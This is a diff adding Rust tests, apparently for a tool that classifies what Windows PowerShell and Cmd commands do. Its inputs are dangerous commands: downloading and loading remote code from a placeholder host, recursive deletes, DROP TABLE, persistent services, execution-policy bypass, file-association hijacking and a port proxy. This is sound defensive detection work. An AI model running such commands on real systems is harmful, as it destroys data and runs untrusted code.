@@ -1,0 +1,95 @@
+//! Objects and programs of Windows that delete, fetch, open or keep running.
+
+use super::Language::{Cmd, PowerShell};
+use super::tests::holds;
+
+#[test]
+fn objects_that_stand_for_files_are_deleted() {
+    holds(
+        PowerShell,
+        &[
+            (
+                "(New-Object IO.DirectoryInfo 'C:\\a').Delete($true)",
+                &["fs.delete C:\\a (recursive)"],
+            ),
+            (
+                "(Get-Item C:\\a).Delete($true)",
+                &["fs.read C:\\a", "fs.delete C:\\a (recursive)"],
+            ),
+            (
+                "$f = New-Object -ComObject Scripting.FileSystemObject; $f.DeleteFolder('C:\\a')",
+                &["fs.delete C:\\a (recursive)"],
+            ),
+            ("(Get-Item C:\\a).FullName", &["fs.read C:\\a"]),
+            (
+                "foreach ($f in gci C:\\a -Recurse) { ri $f.FullName }",
+                &["fs.read C:\\a", "fs.delete glob:C:\\a\\**\\* (wildcard)"],
+            ),
+        ],
+    );
+}
+
+#[test]
+fn what_was_fetched_and_is_loaded_is_code_from_there() {
+    for code in [
+        "Add-Type -TypeDefinition (irm https://h.example/x)",
+        "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://h.example/x'))",
+    ] {
+        holds(
+            PowerShell,
+            &[(
+                code,
+                &[
+                    "net.fetch https://h.example/x",
+                    "exec.remote_code https://h.example/x",
+                ],
+            )],
+        );
+    }
+    holds(PowerShell, &[("Add-Type -AssemblyName System.Web", &[])]);
+}
+
+#[test]
+fn databases_services_and_clouds_are_told_by_their_cmdlets() {
+    holds(
+        PowerShell,
+        &[
+            (
+                "Invoke-Sqlcmd -Query 'DROP TABLE a'",
+                &["Sql: DROP TABLE a"],
+            ),
+            (
+                "New-Service -Name a -BinaryPathName C:\\a.exe",
+                &["persist.startup a (service)"],
+            ),
+            ("Remove-VM a", &["cloud.delete a (protected)"]),
+            (
+                "Set-ExecutionPolicy Bypass",
+                &["system.config set-executionpolicy Bypass"],
+            ),
+            ("Set-ExecutionPolicy Bypass -Scope Process", &[]),
+        ],
+    );
+}
+
+#[test]
+fn links_macros_and_handlers_of_cmd_do_what_they_name() {
+    holds(
+        Cmd,
+        &[
+            ("mklink /d a C:\\b", &["argv: ln -s C:/b a"]),
+            ("doskey ls=del a", &["Cmd: del a"]),
+            ("ftype txtfile=a.exe", &["exec.hijack txtfile=a.exe"]),
+            ("assoc .txt", &[]),
+            ("move a b", &["fs.delete a", "fs.write b"]),
+            (
+                "rundll32 shell32.dll,ShellExec_RunDLL cmd /c del a",
+                &["argv: cmd /c del a"],
+            ),
+            (
+                "netsh interface portproxy add v4tov4 listenport=80",
+                &["net.tunnel port proxy (inward)"],
+            ),
+        ],
+    );
+}
